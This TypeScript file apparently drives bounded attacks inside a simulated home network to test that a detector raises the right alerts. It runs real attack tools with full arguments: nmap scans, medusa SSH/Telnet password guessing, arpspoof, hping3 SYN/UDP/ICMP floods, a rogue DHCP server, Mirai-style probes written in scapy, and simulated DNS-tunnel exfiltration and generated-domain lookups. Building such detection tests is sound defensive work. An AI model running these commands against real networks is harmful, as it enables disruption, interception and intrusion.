// What a broken device does to the small home: each attack is a real program, bounded in packets and time.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Device, HOME_RANGE, NETWORK } from './home.ts';
import { type Household, pause } from './household.ts';
import { BAD_SITE, rogueDhcpWords } from './services.ts';

export interface Attack {
  /** Kind of the alert that it must raise. */
  readonly kind: string;
  /** What is run, in words for people. */
  readonly title: string;
  /** The victim's address, or a whole network's. */
  readonly target: (house: Household) => string;
  readonly run: (house: Household, source: Device) => Promise<void>;
}

/** Where nobody answers: addresses beyond the router. */
const BEYOND = `${NETWORK}.128/26`;
/** hping3 waits a second for an answer that never comes. */
const MIRAI_AT_ONCE = 12;
/** arpspoof tells the truth five times, a second apart, before it ends. */
const LAST_WORDS_MS = 8000;
const GUESSING_MS_MAX = 12_000;

const nas = (house: Household): string => house.nas.ip;
const home = (): string => HOME_RANGE;
const beyond = (): string => BEYOND;

export const hostSweep: Attack = {
  kind: 'host-sweep',
  title: 'nmap -sn: asks by ARP for every address of the home',
  target: home,
  run: (house, source) => attackWith(house, source, ['nmap', '-n', '-sn', '-T4', '--max-retries', '1', HOME_RANGE]),
};

export const pingSweep: Attack = {
  kind: 'host-sweep',
  title: 'nmap -sn -PE: pings 64 addresses beyond the router',
  target: beyond,
  run: (house, source) => attackWith(house, source, ['nmap', '-n', '-sn', '-PE', '-T4', '--max-retries', '1', BEYOND]),
};

export const portScan: Attack = {
  kind: 'port-scan',
  title: 'nmap -sS: SYN scan of the 300 best known ports',
  target: nas,
  run: (house, source) =>
    attackWith(house, source, ['nmap', '-n', '-Pn', '-sS', '-T4', '--top-ports', '300', house.nas.ip]),
};

export const udpScan: Attack = {
  kind: 'port-scan',
  title: 'nmap -sU: UDP scan of 100 ports',
  target: nas,
  run: (house, source) =>
    attackWith(house, source, ['nmap', '-n', '-Pn', '-sU', '-T4', '-F', '--max-retries', '0', house.nas.ip]),
};

export const bruteForce: Attack = {
  kind: 'brute-force',
  title: 'medusa: 48 passwords tried on SSH',
  target: nas,
  run: (house, source) => guessPasswords(house, source, 'ssh', 4),
};

export const telnetBruteForce: Attack = {
  kind: 'brute-force',
  title: 'medusa: up to 48 passwords tried on Telnet',
  target: nas,
  run: (house, source) => guessPasswords(house, source, 'telnet', 16),
};

export const arpSpoof: Attack = {
  kind: 'arp-spoof',
  title: 'arpspoof: tells the phone that it is the router',
  target: (house) => house.phone.ip,
  run: async (house, source) => {
    const words = ['arpspoof', '-i', source.link, '-t', house.phone.ip, house.home.router.ip];
    const child = house.home.spawn(source, words, { stdio: 'ignore' });
    const ended = new Promise((resolve) => child.once('close', resolve));
    await pause(8000);
    child.kill('SIGINT');
    const timer = setTimeout(() => child.kill('SIGKILL'), LAST_WORDS_MS);
    await ended;
    clearTimeout(timer);
  },
};

export const synFlood: Attack = {
  kind: 'flood',
  title: 'hping3: 1,200 SYN packets to the web server within two seconds',
  target: nas,
  run: (house, source) => shoot(house, source, ['-S', '-p', '80', '-i', 'u1000', '-c', '1200', house.nas.ip]),
};

export const udpFlood: Attack = {
  kind: 'flood',
  title: 'hping3: 15,000 datagrams to one port within three seconds',
  target: nas,
  run: (house, source) =>
    shoot(house, source, ['--udp', '-p', '9999', '-d', '64', '-i', 'u200', '-c', '15000', house.nas.ip]),
};

export const pingFlood: Attack = {
  kind: 'flood',
  title: 'hping3: 3,000 pings within three seconds',
  target: nas,
  run: (house, source) => shoot(house, source, ['--icmp', '-i', 'u1000', '-c', '3000', house.nas.ip]),
};

export const rogueDhcp: Attack = {
  kind: 'rogue-dhcp',
  title: 'dnsmasq: a second DHCP server answers the laptop beside the router',
  target: (house) => house.laptop.ip,
  run: async (house, source) => {
    const server = house.home.serve(source, rogueDhcpWords(house.home, source, house.laptop));
    await pause(1000);
    const words = ['busybox', 'udhcpc', '-i', 'eth0', '-f', '-q', '-n', '-t', '3', '-T', '1', '-s', '/bin/true'];
    await house.home.run(house.laptop, [...words, '-x', `hostname:${house.laptop.name}`]);
    server.kill('SIGTERM');
  },
};

export const miraiSyn: Attack = {
  kind: 'mirai-syn',
  title: 'hping3: SYN packets to Telnet whose sequence number is the address they go to, as Mirai sends them',
  target: beyond,
  run: async (house, source) => {
    for (let host = 130; host < 190; host += MIRAI_AT_ONCE) {
      await Promise.all(Array.from({ length: MIRAI_AT_ONCE }, (_, i) => miraiProbe(house, source, host + i)));
    }
  },
};

function miraiProbe(house: Household, source: Device, lastOctet: number): Promise<unknown> {
  const address = `${NETWORK}.${lastOctet}`;
  const sequence = address.split('.').reduce((number, octet) => number * 256 + Number(octet), 0);
  return shoot(house, source, ['-S', '-p', '23', '-M', String(sequence), '-c', '1', address]);
}

export const scapyMiraiSyn: Attack = {
  kind: 'mirai-syn',
  title: 'scapy: the same, made packet by packet, to ports 23 and 2323',
  target: beyond,
  run: (house, source) => {
    const program = [
      'from scapy.all import Ether, IP, TCP, sendp',
      'import ipaddress, random',
      'random.seed(7)',
      `hosts = ["${NETWORK}.%d" % n for n in range(130, 190)]`,
      `frames = [Ether(dst="${house.home.router.mac}") / IP(dst=h) / TCP(sport=random.randrange(1024, 65535),`,
      '  dport=random.choice([23, 23, 23, 2323]), flags="S", seq=int(ipaddress.ip_address(h))) for h in hosts]',
      `sendp(frames, iface="${source.link}", inter=0.02, verbose=False)`,
    ];
    return attackWith(house, source, ['/usr/bin/python3', '-c', program.join('\n')]);
  },
};

export const dnsTunnel: Attack = {
  kind: 'dns-tunnel',
  title: `dig: a file leaves in 150 long names under ${BAD_SITE}`,
  target: (house) => house.home.router.ip,
  run: (house, source) => {
    // As dns2tcp and iodine make names: base32 text that looks like chance.
    const random = letters('abcdefghijklmnopqrstuvwxyz234567');
    const names = Array.from({ length: 150 }, () => `${random(40)}.${random(40)}.${BAD_SITE} TXT`);
    return ask(house, source, names);
  },
};

export const generatedNames: Attack = {
  kind: 'generated-names',
  title: 'dig: 120 made-up names, none of which exists, in search of a control server',
  target: (house) => house.home.router.ip,
  run: (house, source) => {
    const random = letters('abcdefghijklmnopqrstuvwxyz');
    return ask(
      house,
      source,
      Array.from({ length: 120 }, (_, i) => `${random(12 + (i % 7))}.${['com', 'net', 'info', 'biz'][i % 4]} A`),
    );
  },
};

/** Runs a program of the attacker; a wrong status means that there was no attack. */
async function attackWith(house: Household, source: Device, words: readonly string[]): Promise<void> {
  const run = await house.home.run(source, words);
  if (run.status !== 0) throw new Error(`${words.join(' ')}: exit ${run.status}: ${run.stderr}`);
}

/** hping3 exits 1 when some packets get no answer; they were sent all the same. */
async function shoot(house: Household, source: Device, words: readonly string[]): Promise<void> {
  const run = await house.home.run(source, ['hping3', '-q', ...words]);
  if (!/packets (transmitted|tramitted)/.test(run.stderr + run.stdout)) throw new Error(`hping3: ${run.stderr}`);
}

/** Telnet's login program waits three seconds after each refusal, so the list may not be tried to its end. */
async function guessPasswords(house: Household, source: Device, service: string, atOnce: number): Promise<void> {
  const file = join(house.home.folder, 'passwords');
  writeFileSync(file, Array.from({ length: 48 }, (_, i) => `admin${1000 + i * 37}`).join('\n'));
  const words = ['medusa', '-h', house.nas.ip, '-u', 'admin', '-P', file, '-M', service, '-t', String(atOnce)];
  const run = await house.home.run(source, words, { timeoutMs: GUESSING_MS_MAX });
  if (run.status !== 0 && run.status !== null) throw new Error(`medusa: exit ${run.status}: ${run.stderr}`);
}

function ask(house: Household, source: Device, questions: readonly string[]): Promise<void> {
  const file = join(house.home.folder, 'questions');
  writeFileSync(file, `${questions.join('\n')}\n`);
  return attackWith(house, source, ['dig', '+tries=1', '+time=1', '-f', file]);
}

/** Texts of letters that look like chance and are the same at every run. */
function letters(alphabet: string): (count: number) => string {
  let state = 77;
  const next = (): string => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return alphabet[Math.floor(state / 4096) % alphabet.length]!;
  };
  return (count) => Array.from({ length: count }, next).join('');
}
